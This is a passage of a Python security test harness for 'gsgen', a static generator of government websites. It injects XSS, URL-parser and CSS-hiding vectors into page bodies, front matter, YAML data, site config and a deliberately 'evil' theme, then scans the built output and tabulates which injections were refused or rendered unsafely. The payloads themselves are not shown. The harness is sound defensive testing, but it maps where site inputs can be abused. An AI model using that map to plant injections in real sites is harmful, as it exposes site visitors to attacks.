        d.lower_name in ("overflow", "overflow-x", "overflow-y") and _idents(d.value) & {"hidden", "clip"}
        for d in declarations
    )
    for d in declarations:
        name = d.lower_name
        values = [t for t in d.value if t.type not in ("whitespace", "comment")]
        idents = _idents(values)
        if name in HIDING_IDENTS and idents & HIDING_IDENTS[name]:
            problems.append(f"hides ({name}: {' '.join(sorted(idents))})")
        elif name == "position" and idents & POSITIONS:
            problems.append(f"positions ({name}: {' '.join(sorted(idents))})")
        elif name == "opacity" and _opacity(values) < 0.1:
            problems.append("hides (opacity near 0)")
        elif name == "font-size" and _tiny_font(values):
            problems.append("hides (tiny font-size)")
        elif name in SIZES and overflow_hidden and _tiny_length(values):
            problems.append(f"hides ({name} 0 or 1px with overflow hidden)")
        elif name in MAX_SIZES and _tiny_length(values):
            problems.append(f"hides ({name} 0)")
        elif name == "clip" and idents != {"auto"}:
            problems.append("hides (clip)")
        elif name == "clip-path" and idents != {"none"}:
            problems.append("hides (clip-path)")
        elif name == "text-indent" and any(n < 0 or n >= 1000 for n in _numbers(values)):
            problems.append("hides (text-indent off screen)")
        elif MARGINS.match(name) and any(n < 0 for n in _numbers(values)):
            problems.append(f"moves off screen (negative {name})")
        elif name in OFFSETS or name.startswith("inset-"):
            problems.append(f"positions ({name})")
        elif name in TRANSFORMS and idents != {"none"}:
            problems.append(f"transforms ({name})")
        elif name in ("behavior", "-moz-binding"):
            problems.append(f"loads code ({name})")
        if any(_loads(t) for t in values):
            problems.append(f"loads content ({name}: url()/image-set()/expression())")
    return problems


def _idents(values: Iterable[Any]) -> set[str]:
    return {t.lower_value for t in values if t.type == "ident"}


def _numbers(values: Iterable[Any]) -> list[float]:
    return [t.value for t in values if t.type in ("number", "dimension", "percentage")]


def _opacity(values: list[Any]) -> float:
    for t in values:
        if t.type == "number":
            return t.value
        if t.type == "percentage":
            return t.value / 100
    return 1.0


def _tiny_length(values: list[Any]) -> bool:
    """0, or at most 1px: a box nothing shows in."""
    for t in values:
        if t.type in ("number", "percentage") and t.value == 0:
            return True
        if t.type == "dimension" and (t.value == 0 or (t.lower_unit == "px" and t.value <= 1)):
            return True
    return False


def _tiny_font(values: list[Any]) -> bool:
    for t in values:
        if t.type == "number" and t.value == 0:
            return True
        if t.type == "dimension" and t.value < TINY_FONT.get(t.lower_unit, 0):
            return True
        if t.type == "percentage" and t.value < TINY_FONT_PERCENT:
            return True
    return False


def _loads(token: Any) -> bool:
    if token.type == "url":
        return True
    if token.type == "function":
        return token.lower_name in LOADING_FUNCTIONS or any(_loads(a) for a in token.arguments)
    return False


Block = tinycss2.ast.ParenthesesBlock | tinycss2.ast.SquareBracketsBlock | tinycss2.ast.CurlyBracketsBlock


def _walk_css(nodes: Iterable[Any]) -> Iterator[Any]:
    """Every rule, declaration and token, nested blocks and function arguments included."""
    for node in nodes:
        yield node
        if isinstance(node, tinycss2.ast.QualifiedRule | tinycss2.ast.AtRule):
            yield from _walk_css(node.prelude)
            if node.content is not None:
                yield from _walk_css(tinycss2.parse_blocks_contents(node.content, skip_comments=True))
        elif isinstance(node, tinycss2.ast.Declaration):
            yield from _walk_css(node.value)
        elif isinstance(node, tinycss2.ast.FunctionBlock):
            yield from _walk_css(node.arguments)
        elif isinstance(node, Block):
            yield from _walk_css(node.content)


def _css_urls(nodes: Iterable[Any]) -> Iterator[str]:
    for node in nodes:
        if node.type == "url":
            yield node.value
        elif node.type == "function" and node.lower_name in LOADING_FUNCTIONS:
            yield from (a.value for a in node.arguments if a.type == "string")
        elif isinstance(node, tinycss2.ast.AtRule) and node.lower_at_keyword == "import":
            yield from (t.value for t in node.prelude if t.type == "string")


def _shorten(text: str, limit: int = 160) -> str:
    text = " ".join(text.split())
    return text if len(text) <= limit else text[: limit - 1] + "…"


# ================================================================ cases: where each vector goes


@dataclass(frozen=True)
class Case:
    entry: str  # body, front-matter, structured, config, theme
    placement: str  # where in the entry point: md-link, title, apply_url, logo, …
    vector: Vector
    source: str = ""  # the file that carries the vector, relative to the site
    line: int | None = None  # its line there, where the file holds several cases (config, theme)
    page: str | None = None  # the output page that shows this case and no other
    value: str | None = None  # the text that ties an output finding to this case (config)
    text: str = ""  # what to write: an item file, or a line of the theme's template

    @property
    def id(self) -> str:
        return f"{self.entry}:{self.placement}:{self.vector.id}"


@dataclass
class Outcome:
    status: str  # one of STATUSES
    details: list[str] = field(default_factory=list)

    def explain(self) -> str:
        return STATUS_TEXT[self.status] + "".join(f"\n    {d}" for d in self.details[:8])


STATUSES = ("refused", "unclear", "clean", "unsafe", "crash")
STATUS_TEXT = {
    "refused": "refused, with an error naming the source file",
    "unclear": "the build failed, but no error names the file (and line) that carried the vector",
    "clean": "built, and the scanner finds nothing",
    "unsafe": "built, and the output is unsafe",
    "crash": "gsgen crashed",
}
PASSING = ("refused", "clean")


def yaml_string(text: str) -> str:
    """A double-quoted YAML scalar on one line (a JSON string is one)."""
    return json.dumps(text, ensure_ascii=False)


def md_destination(url: str) -> str:
    """A Markdown link destination meaning exactly `url` (character references are still decoded, as
    they would be in an HTML attribute)."""
    return "<" + url.replace("\\", "\\\\").replace("<", "\\<").replace(">", "\\>") + ">"


def markdown_item(title: str, body: str = "正文。", fields: dict[str, str] | None = None) -> str:
    fields = fields or {}
    lines = ["---", f"title: {title}", "date: 2024-03-05 09:30", "source: 测试县人民政府办公室"]
    lines = [line for line in lines if line.split(":")[0] not in fields]  # a field under attack replaces its default
    lines += [f"{k}: {v}" for k, v in fields.items()]
    return "\n".join([*lines, "---", "", body, ""])


def url_html(placement: str, url: str) -> str:
    return {
        "a-href": f'<p>请点击<a href="{url}">链接</a>。</p>',
        "img-src": f'<p><img src="{url}" alt="图"></p>',
        "iframe-src": f'<iframe src="{url}" title="视频"></iframe>',
    }[placement]


def style_html(placement: str, style: str) -> str:
    link = '<a href="https://www.gov.cn/">链接</a>'
    return {
        "p-style": f'<p style="{style}">{link}</p>',
        "td-style": f'<table><tr><td style="{style}">{link}</td></tr></table>',
    }[placement]


URL_BODY = ("md-link", "md-image", "a-href", "img-src", "iframe-src")
URL_HTML = URL_BODY[2:]
STYLE_BODY = ("p-style", "td-style")
FRONT_TEXT_FIELDS = ("title", "description", "source", "author", "keywords")


def _item_files(cases: list[Case], column: str, suffix: str, write: Callable[[Case, str], str]) -> list[Case]:
    """Each case in its own item content/<column>/v<NNN>.<suffix>, written by write(case, title)."""
    out = []
    for n, c in enumerate(cases, start=1):
        name = f"v{n:03d}"
        c = replace(c, source=f"content/{column}/{name}.{suffix}", page=f"{column}/{name}.html")
        out.append(replace(c, text=write(c, f"攻击用例{name}")))
    return out


def body_cases() -> list[Case]:
    cases = []
    for v in vectors_of("url"):
        dest = md_destination(v.payload)
        bodies = {"md-link": f"请点击[链接]({dest})。", "md-image": f"![图]({dest})"}
        bodies |= {p: url_html(p, v.payload) for p in URL_HTML}
        cases += [Case("body", p, v, text=bodies[p]) for p in URL_BODY]
    cases += [Case("body", p, v, text=style_html(p, v.payload)) for v in vectors_of("style") for p in STYLE_BODY]
    cases += [Case("body", "raw-html", v, text=v.payload) for v in vectors_of("html")]
    return _item_files(
        cases, "gzdt", "md", lambda c, title: markdown_item(title, f"正文开始。\n\n{c.text}\n\n正文结束。")
    )


def _front_matter(c: Case, title: str) -> str:
    value = yaml_string(c.vector.payload)
    fields = {
        "keywords": {"keywords": f"[{value}]"},
        "attachments": {"attachments": f"[{{file: {value}, title: 附件}}]"},
    }.get(c.placement, {c.placement: value})
    return markdown_item(title, fields=fields)


def front_matter_cases() -> list[Case]:
    cases = [Case("front-matter", f, v) for v in vectors_of("html") for f in FRONT_TEXT_FIELDS]
    cases += [Case("front-matter", f, v) for v in vectors_of("url") for f in ("image", "attachments")]
    return _item_files(cases, "gzdt", "md", _front_matter)


def _guide(title: str, apply_url: str = "https://zwfw.test.gov.cn/gtgsh", note: str = "无") -> str:
    return (
        f"title: {title}\ndate: 2024-01-05 09:00\nsource: 测试县市场监督管理局\n"
        "basis: 《促进个体工商户发展条例》\nconditions: 有经营能力的公民\n"
        f"materials:\n  - {{name: 登记申请书, basis: 条例第八条, format: 原件, copies: '1', note: {note}}}\n"
        "steps: [申请, 受理, 审核, 发照]\ntime_limit: 1个工作日\nfee: 不收费\noffice: 县市场监督管理局\n"
        "address: 县政务服务中心\nhours: 工作日 9:00-17:00\nphone: 023-11110002\nonline_level: 全程网办\n"
        f"apply_url: {apply_url}\n"
    )


def _leaders(title: str, photo: str) -> str:
    return (
        f"title: {title}\ndate: 2024-01-02 09:00\nsource: 测试县人民政府办公室\npeople:\n"
        f"  - {{name: 李县长, post: 县长, photo: {photo}, resume: 男，汉族，大学学历。, duties: 主持县政府全面工作。}}\n"
    )


def _messages(title: str, answer: str) -> str:
    return (
        f"title: {title}\ndate: 2024-06-10 09:00\nsource: 测试县人民政府办公室\nmessages:\n"
        "  - {title: 路灯不亮, asked: 2024-06-01 08:00, received: 2024-06-01 09:00, replied: 2024-06-03 16:00,"
        f" dept: 县城市管理局, question: 人民路路灯不亮。, answer: {answer}}}\n"
    )


STRUCTURED: dict[str, tuple[str, str, Callable[[str, str], str]]] = {
    # placement: (vector kind, column, write(title, YAML value))
    "apply_url": ("url", "bsfw", lambda title, v: _guide(title, apply_url=v)),
    "material-note": ("html", "bsfw", lambda title, v: _guide(title, note=v)),
    "related-url": ("url", "bsfw", lambda title, v: _guide(title) + f"related:\n  - {{title: 相关链接, url: {v}}}\n"),
    "photo": ("url", "ldxx", _leaders),
    "answer": ("html", "hdjl", _messages),
}


def structured_cases() -> list[Case]:
    by_column: dict[str, list[Case]] = defaultdict(list)
    for placement, (kind, column, _) in STRUCTURED.items():
        by_column[column] += [Case("structured", placement, v) for v in vectors_of(kind)]
    cases = []
    for column, own in by_column.items():
        write = lambda c, title: STRUCTURED[c.placement][2](title, yaml_string(c.vector.payload))  # noqa: E731
        cases += _item_files(own, column, "yaml", write)
    return cases


SITE_URL_FIELDS = (
    "error_report_url",
    "interaction_url",
    "conac_url",
    "logo",
    "error_report_badge",
    "conac_badge",
    "base_url",
)


def config_cases() -> list[Case]:
    urls = vectors_of("url")
    cases = [Case("config", f, v, source="config.yaml", value=v.payload) for f in SITE_URL_FIELDS for v in urls]
    cases += [
        Case("config", "column-url", v, source=f"content/w{n:03d}/_column.yaml", value=v.payload)
        for n, v in enumerate(urls, start=1)
    ]
    cases += [Case("config", "colors.primary", v, source="config.yaml", value=v.payload) for v in vectors_of("color")]
    # entries of the homepage's lists: a notice's link and text, a 政务新媒体 account's address, QR code
    # and platform
    cases += [
        Case("config", p, v, source="config.yaml", value=v.payload)
        for p, (kind, _list, _entry) in CONFIG_LISTS.items()
        for v in vectors_of(kind)
    ]
    return cases


# placement: (vector kind, list in config.yaml, an entry carrying `value`, found by its `title`)
CONFIG_LISTS: dict[str, tuple[str, str, Callable[[str, str], str]]] = {
    "notices.link": (
        "url",
        "notices",
        lambda title, v: f"{{title: {title}, kind: 公告, from: 2024-01-01 09:00, link: {v}}}",
    ),
    "notices.text": (
        "html",
        "notices",
        lambda title, v: f"{{title: {title}, kind: 紧急, from: 2024-01-01 09:00, text: {v}}}",
    ),
    "new_media.url": ("url", "new_media", lambda title, v: f"{{platform: 微信公众号, name: {title}, url: {v}}}"),
    "new_media.qr": ("url", "new_media", lambda title, v: f"{{platform: 微博, name: {title}, qr: {v}}}"),
    "new_media.platform": ("html", "new_media", lambda title, v: f"{{platform: {v}, name: {title}}}"),
}


THEME = "evil"
THEME_404 = f"themes/{THEME}/templates/404.html"


def theme_cases() -> list[Case]:
    cases = [Case("theme", p, v, text=url_html(p, v.payload)) for v in vectors_of("url") for p in URL_HTML]
    cases += [Case("theme", p, v, text=style_html(p, v.payload)) for v in vectors_of("style") for p in STYLE_BODY]
    cases += [Case("theme", "raw-html", v, text=v.payload) for v in vectors_of("html")]
    # one line each: a newline inside an attribute means what its character reference means
    return [replace(c, source=THEME_404, text=c.text.replace("\n", "&#10;").replace("\r", "&#13;")) for c in cases]


ENTRIES: dict[str, Callable[[], list[Case]]] = {
    "body": body_cases,
    "front-matter": front_matter_cases,
    "structured": structured_cases,
    "config": config_cases,
    "theme": theme_cases,
}


def all_cases(entries: Iterable[str] = ENTRIES) -> list[Case]:
    return [c for e in entries for c in ENTRIES[e]()]


# ================================================================ sites that carry the cases


def base_files() -> dict[str, str]:
    from tests.sites import minimal_site

    files = minimal_site()
    # a column page per 100 items, not per 3: hundreds of attack items stay a few pages
    files["config.yaml"] = files["config.yaml"].replace("paginate: 3", "paginate: 100")
    return files


def _set_site_field(config: str, key: str, value: str) -> str:
    pattern = re.compile(rf"^  {key}: .*$", re.MULTILINE)
    line = f"  {key}: {value}"
    if pattern.search(config):
        return pattern.sub(lambda _: line, config)
    return config.replace("site:\n", f"site:\n{line}\n", 1)


def _list_title(case: Case) -> str:
    """A title no other entry shares, by which the entry's line is found."""
    return "攻击" + hashlib.sha256(case.id.encode()).hexdigest()[:12]


def _line_of(text: str, prefix: str) -> int:
    return next(n for n, line in enumerate(text.split("\n"), start=1) if line.startswith(prefix))


def site_files(cases: list[Case]) -> tuple[dict[str, str], list[Case]]:
    """The site carrying `cases`, and the cases with their line filled in where a file holds several
    (config.yaml, the theme's template)."""
    files = base_files()
    config = files["config.yaml"]
    lists: dict[str, list[str]] = {}
    for c in cases:
        if c.entry in ("body", "front-matter", "structured"):
            files[c.source] = c.text
        elif c.placement in SITE_URL_FIELDS:
            config = _set_site_field(config, c.placement, yaml_string(c.vector.payload))
        elif c.placement == "column-url":
            name = posixpath.basename(posixpath.dirname(c.source))
            files[c.source] = f"name: 外部系统{name}\ntype: 其他\nurl: {yaml_string(c.vector.payload)}\n"
            config = config.replace("channels: [", f"channels: [{name}, ", 1)
        elif c.placement == "colors.primary":
            config += f"colors: {{primary: {yaml_string(c.vector.payload)}}}\n"
        elif c.placement in CONFIG_LISTS:
            _kind, key, entry = CONFIG_LISTS[c.placement]
            lists.setdefault(key, []).append(f"  - {entry(_list_title(c), yaml_string(c.vector.payload))}")
    for key, entries in lists.items():
        config += f"{key}:\n" + "\n".join(entries) + "\n"
    theme = [c for c in cases if c.entry == "theme"]
    if theme:
        config += f"theme: {THEME}\n"
        files[THEME_404], lines = theme_template([c.text for c in theme])
    files["config.yaml"] = config
    placed = []
    for c in cases:
        if c.placement in CONFIG_LISTS:
            title = _list_title(c)
            c = replace(c, line=next(n for n, line in enumerate(config.split("\n"), start=1) if title in line))
        elif c.source == "config.yaml":
            c = replace(c, line=_line_of(config, "colors:" if c.placement == "colors.primary" else f"  {c.placement}:"))
        elif c.entry == "theme":
            c = replace(c, line=lines[theme.index(c)])
        placed.append(c)
    return files, placed


def theme_template(lines: list[str]) -> tuple[str, list[int]]:
    """The default theme's 404 page with `lines` added to its main block, and the line of each."""
    from tests.sites import THEME as DEFAULT_THEME

    default = (DEFAULT_THEME / "templates" / "404.html").read_text("utf-8")
    cut = default.rfind("{% endblock %}")
    head, tail = (default[:cut], default[cut:]) if cut >= 0 else (default, "")
    head = head if head.endswith("\n") else head + "\n"
    first = head.count("\n") + 2  # the line after {% raw %}
    # {% raw %}: the vectors are literal HTML, never Jinja, whatever braces they hold
    text = head + "{% raw %}\n" + "".join(f"{line}\n" for line in lines) + "{% endraw %}\n" + tail
    return text, [first + n for n in range(len(lines))]


# ================================================================ running gsgen on them

ERROR_LINE = re.compile(r"^(?P<file>.+?)(?::(?P<line>\d+))?: error\[(?P<rule>[^\]]+)\] ")


@dataclass
class Build:
    code: int
    text: str
    out: Path

    @property
    def tail(self) -> list[str]:
        """The last lines said: on a crash, gsgen's one-line report of it."""
        return [line for line in self.text.splitlines() if line.strip()][-3:] or [f"exit {self.code}"]

    @property
    def crashed(self) -> bool:
        return self.code not in (0, 1) or "Traceback" in self.text or "内部错误" in self.text

    def errors(self, site: Path) -> list[tuple[str, int, str]]:
        """(file relative to the site, line or 0, the message line) of each error."""
        found = []
        for raw in self.text.splitlines():
            m = ERROR_LINE.match(raw.strip())
            if m:
                file = m["file"]
                for prefix in (f"{site}/", f"{site.resolve()}/"):
                    file = file.removeprefix(prefix)
                found.append((file, int(m["line"] or 0), raw.strip()))
        return found


class Workspace:
    """A site folder rewritten for each build (gsgen's cache kept) and its output folder."""

    def __init__(self, root: Path) -> None:
        self.site = root / "site"
        self.out = root / "public"

    def build(self, files: dict[str, str]) -> Build:
        from tests.conftest import NOW, gsgen_here
        from tests.sites import write_site

        for old in ("content", "themes", "config.yaml"):
            target = self.site / old
            if target.is_dir():
                shutil.rmtree(target)
            elif target.exists():
                target.unlink()
        written: dict[str, str | bytes] = dict(files)
        write_site(self.site, written)
        started = time.monotonic()
        run = gsgen_here("build", self.site, "--now", NOW, "-o", self.out, "-j", "1")
        _log(f"build {self.site.parent.name} exit {run.code} {time.monotonic() - started:.2f}s")
        return Build(run.code, run.text, self.out)


def _log(message: str) -> None:
    """Where the time goes, with GSGEN_ATTACKS_LOG=1: each build, and why a group was split."""
    if os.environ.get("GSGEN_ATTACKS_LOG"):
        print(message, file=sys.stderr)


class Settler:
    """Gives every case of a group an outcome with few builds: all cases at once, then again without
    those an error named, and so on; a group is split in two only when a crash, an error or a finding
    cannot be tied to one case."""

    def __init__(self, work: Workspace, baseline: set[str]) -> None:
        self.work = work
        self.baseline = set(baseline)  # messages the site shows without any vector
        self.theme_offset: int | None = None  # output line of 404.html minus template line

    def settle(self, cases: list[Case]) -> dict[str, Outcome]:
        results: dict[str, Outcome] = {}
        pending = list(cases)
        while pending:
            files, placed = site_files(pending)
            build = self.work.build(files)
            if build.crashed:
                if len(pending) == 1:
                    return results | {pending[0].id: Outcome("crash", build.tail)}
                crashed = self._probe(build, pending)
                if not crashed:
                    return results | self._halves(pending)
                results |= crashed
                pending = [c for c in pending if c.id not in crashed]
                continue
            if build.code == 1:
                blamed = self._blame(build, placed)
                if not blamed and len(pending) > 1:
                    _log(f"split {len(pending)} cases: errors of no one case: {build.errors(self.work.site)[:2]}")
                    return results | self._halves(pending)
                if not blamed:
                    said = [e[2] for e in build.errors(self.work.site)] or build.text.splitlines()[-3:]
                    return results | {pending[0].id: Outcome("unclear", said)}
                for case_id, (clear, said) in blamed.items():
                    results[case_id] = Outcome("refused" if clear else "unclear", said)
                pending = [c for c in pending if c.id not in blamed]
                continue
            owned: dict[str, list[str]] = defaultdict(list)
            stray: list[str] = []
            for f in scan_folder(build.out):
                if f.message not in self.baseline:
                    owner = self._owner(f, placed)
                    (owned[owner] if owner else stray).append(str(f))
            if stray and len(pending) > 1:
                _log(f"split {len(pending)} cases: findings of no one case: {stray[:2]}")
                return results | self._halves(pending)
            owned[pending[0].id] += stray
            return results | {
                c.id: Outcome("unsafe", owned[c.id]) if owned[c.id] else Outcome("clean") for c in pending
            }
        return results

    def _probe(self, build: Build, pending: list[Case]) -> dict[str, Outcome]:
        """Build alone the cases whose payload the crash message quotes (gsgen's message often names
        the value it choked on): the crashing ones found in a build or two instead of a bisection."""
        said = build.tail[-1]
        found = {}
        for case in suspects(said, pending):
            alone = self.work.build(site_files([case])[0])
            if alone.crashed:
                found[case.id] = Outcome("crash", alone.tail)
        return found

    def _halves(self, cases: list[Case]) -> dict[str, Outcome]:
        middle = len(cases) // 2
        return self.settle(cases[:middle]) | self.settle(cases[middle:])

    def _theme_case(self, placed: list[Case], file: str, line: int) -> Case | None:
        if file != "404.html" or self.theme_offset is None:
            return None
        return next((c for c in placed if c.entry == "theme" and c.line == line - self.theme_offset), None)

    def _blame(self, build: Build, placed: list[Case]) -> dict[str, tuple[bool, list[str]]]:
        """Case id → (whether an error names its source file and line, the errors about it)."""
        blamed: dict[str, tuple[bool, list[str]]] = {}
        by_source = {(c.source, c.line): c for c in placed}
        by_page = {c.page: c for c in placed if c.page}
        for file, line, said in build.errors(self.work.site):
            case = by_source.get((file, line)) or by_source.get((file, None))
            clear = case is not None and line > 0
            case = case or by_page.get(file) or self._theme_case(placed, file, line) or _by_value(said, placed)
            if case is not None:
                was_clear, lines = blamed.get(case.id, (False, []))
                blamed[case.id] = (was_clear or clear, [*lines, said])
        return blamed

    def _owner(self, finding: Finding, placed: list[Case]) -> str | None:
        case = next((c for c in placed if c.page == finding.file), None)
        case = case or self._theme_case(placed, finding.file, finding.line)
        if case is not None:
            return case.id
        case = _by_value(finding.value, placed, exact=True)
        return case.id if case else None


def _by_value(text: str, placed: list[Case], exact: bool = False) -> Case | None:
    """The config case whose value `text` shows: the one equal to it, else the longest it contains;
    compared as the page shows them (controls and spaces dropped, case folded)."""
    text = comparable(text)
    matches = [c for c in placed if c.value and text and comparable(c.value) in text]
    same = [c for c in matches if exact and comparable(c.value or "") == text]
    return max(same or matches, key=lambda c: len(comparable(c.value or ""))) if matches else None


def comparable(value: str) -> str:
    """A URL as it may come back from a page or a message: NUL made U+FFFD, C0 controls and spaces
    dropped, lower case. Cases in one build never share this form (`_config_groups`)."""
    return re.sub(r"[\x00-\x20\x7f]", "", value.replace("\0", "\ufffd")).lower()


def suspects(message: str, cases: list[Case], most: int = 6) -> list[Case]:
    """The cases sharing the longest run of characters (at least 10) with `message`."""
    best, found = 9, []
    for case in cases:
        payload, longest = case.vector.payload, 0
        for start in range(len(payload)):
            end = start + longest + 1
            while end <= len(payload) and payload[start:end] in message:
                longest, end = end - start, end + 1
        if longest > best:
            best, found = longest, [case]
        elif longest == best and found:
            found.append(case)
    return found[:most]


Job = tuple[str, list[Case], set[str]]


def _run_job(job: Job) -> dict[str, Outcome]:
    """One group of cases, in a folder of its own (run in a worker process)."""
    entry, cases, baseline = job
    root = Path(tempfile.mkdtemp(prefix=f"gsgen-attacks-{entry}-"))
    try:
        settler = Settler(Workspace(root), baseline)
        if entry == "theme":
            _calibrate(settler, cases)
        return settler.settle(cases)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _calibrate(settler: Settler, cases: list[Case]) -> None:
    """Learn which line of the output 404.html each template line becomes, by building the template
    with a harmless marker on each vector's line; what the scanner finds there is the theme's baseline."""
    markers = [replace(c, text=f"<p>gsgen-calibration-{n}</p>") for n, c in enumerate(cases)]
    files, placed = site_files(markers)
    build = settler.work.build(files)
    page = build.out / "404.html"
    if build.code != 0 or not page.is_file():
        return
    for number, line in enumerate(page.read_text("utf-8").split("\n"), start=1):
        if m := re.search(r"gsgen-calibration-(\d+)<", line):
            settler.theme_offset = number - (placed[int(m[1])].line or 0)
            break
    settler.baseline |= {f.message for f in scan_folder(build.out)}


def baseline_findings() -> list[Finding]:
    """What the scanner finds in the site every entry point starts from, before any vector."""
    root = Path(tempfile.mkdtemp(prefix="gsgen-attacks-base-"))
    try:
        build = Workspace(root).build(base_files())
        if build.code != 0:
            raise RuntimeError(f"the base site does not build:\n{build.text}")
        return scan_folder(build.out)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _jobs(entries: Iterable[str], baseline: set[str]) -> list[Job]:
    jobs: list[Job] = []
    for entry in entries:
        cases = ENTRIES[entry]()
        if entry != "config":
            jobs.append((entry, cases, baseline))
            continue
        jobs += [(entry, group, baseline) for group in _config_groups(cases)]
    return sorted(jobs, key=lambda j: -len(j[1]))  # the big groups first; small config builds fill the gaps


def _config_groups(cases: list[Case]) -> list[list[Case]]:
    """config.yaml cases in builds of six: the five site fields and one column's url, each set to a
    different vector (none the same as another once spaces and case are dropped), so that each
    finding's value names one case. colors.primary, a stylesheet, alone."""
    queues: dict[str, list[Case]] = defaultdict(list)
    for c in cases:
        queues[c.placement].append(c)
    groups = [[c] for c in queues.pop("colors.primary", [])]
    start = 0
    while any(queues.values()):
        group: list[Case] = []
        for n, queue in enumerate(queues.values()):
            taken = {comparable(c.value or "") for c in group}
            # each field starts at a different vector, so one build holds different vectors
            order = queue[(start + 7 * n) % len(queue) :] + queue[: (start + 7 * n) % len(queue)] if queue else []
            pick = next((c for c in order if comparable(c.value or "") not in taken), None)
            if pick is not None:
                group.append(pick)
                queue.remove(pick)
        groups.append(group)
        start += 1
    return groups


def run_entries(entries: Iterable[str] = ENTRIES, workers: int = 0) -> dict[str, Outcome]:
    """Every case of `entries` with its outcome, the builds spread over the machine's cores."""
    jobs = _jobs(list(entries), {f.message for f in baseline_findings()})
    workers = workers or os.cpu_count() or 1
    results: dict[str, Outcome] = {}
    if workers == 1:
        for job in jobs:
            results |= _run_job(job)
        return results
    # forked workers inherit the imported gsgen; each build renders in its own worker (-j 1)
    with ProcessPoolExecutor(max_workers=workers, mp_context=get_context("fork")) as pool:
        for found in pool.map(_run_job, jobs):
            results |= found
    return results


# ================================================================ the table

CLASS_LABELS = {
    "xss": "(a) XSS filter evasion",
    "url": "(b) URL parser tricks",
    "style": "(c) hiding/overlay/loading CSS",
}


def table(outcomes: dict[str, Outcome]) -> str:
    cases = [c for c in all_cases() if c.id in outcomes]
    rows: list[tuple[str, list[Case]]] = [(CLASS_LABELS[k], [c for c in cases if c.vector.cls == k]) for k in CLASSES]
    rows.append(("total", cases))
    rows += [(f"  entry: {e}", [c for c in cases if c.entry == e]) for e in ENTRIES]
    heads = ("tried", "refused", "unclear", "clean", "UNSAFE", "CRASH")
    lines = [f"{'':32}" + "".join(f"{h:>9}" for h in heads)]
    for label, group in rows:
        counts = Counter(outcomes[c.id].status for c in group)
        lines.append(f"{label:32}{len(group):>9}" + "".join(f"{counts[s]:>9}" for s in STATUSES))
    lines.append(
        "refused = exit 1 with an error naming the file (and line) that carried the vector; unclear = exit 1"
        " without one;\nclean = built and the scanner finds nothing; UNSAFE = built with unsafe output;"
        " CRASH = exit 70, 内部错误 or a traceback"
    )
    return "\n".join(lines)


def failures(outcomes: dict[str, Outcome], statuses: Iterable[str] = ("crash", "unsafe", "unclear")) -> str:
    wanted = list(statuses)
    cases = sorted(
        (c for c in all_cases() if c.id in outcomes),
        key=lambda c: wanted.index(outcomes[c.id].status) if outcomes[c.id].status in wanted else 99,
    )
    return "\n".join(
        f"[{outcomes[c.id].status}] {c.id}\n    " + "\n    ".join(outcomes[c.id].details[:3])
        for c in cases
        if outcomes[c.id].status in wanted
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.attacks", description="gsgen attack harness")
    parser.add_argument("--table", action="store_true", help="run every case and print the summary table")
    parser.add_argument("--details", action="store_true", help="also list each crashing, unsafe or unclear case")
    parser.add_argument("--entry", action="append", choices=list(ENTRIES), help="only these entry points")
    parser.add_argument("--workers", type=int, default=0, help="processes (default: one per core)")
    args = parser.parse_args(argv)
    if not (args.table or args.details):
        parser.print_help()
        return 2
    started = time.monotonic()
    outcomes = run_entries(args.entry or list(ENTRIES), args.workers)
    print(table(outcomes))
    print(f"\n{len(VECTORS)} vectors, {len(outcomes)} cases, {time.monotonic() - started:.1f} s")
    base = dict.fromkeys(f.message for f in baseline_findings())
    if base:
        print("\nThe site without any vector already shows (subtracted from every case):")
        print("".join(f"  {m}\n" for m in base), end="")
    if args.details:
        print("\n" + failures(outcomes))
    return 0


if __name__ == "__main__":
    sys.exit(main())
